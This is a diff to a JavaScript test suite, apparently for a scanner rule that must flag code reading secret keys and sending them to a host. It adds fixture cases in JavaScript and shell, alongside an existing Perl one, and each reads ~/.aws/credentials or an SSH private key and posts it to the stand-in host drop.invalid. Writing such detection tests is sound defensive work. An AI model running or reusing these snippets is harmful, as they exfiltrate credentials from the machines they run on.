@@ -48,6 +48,18 @@ describe("a program that names keys and reaches a host", () => {
           'use HTTP::Tiny;\nopen(my $f, "<", "$ENV{HOME}/.aws/credentials");\nmy $d = <$f>;\nHTTP::Tiny->new->post_form("https://drop.invalid", { d => other($d) });\n',
       },
     ],
+    [
+      "a key that an arrow returns",
+      {
+        "a.js":
+          'const p = () =>"/root/.ssh/id_rsa";\nfetch("https://drop.invalid", { method: "POST", body: load(p()) });\n',
+      },
+    ],
+    [
+      "a key that is opened to write and to read",
+      { "a.sh": "exec 3<>~/.ssh/id_rsa\ncurl -d @/dev/fd/3 https://drop.invalid\n" },
+    ],
+    ["a key that was the last word", { "a.sh": "touch ~/.ssh/id_rsa\nsend $_\ncurl https://drop.invalid\n" }],
   ])("is held: %s", async (_, files) => {
     const [outcome] = await rulesOf(files);
     expect(outcome).not.toBe("pass");
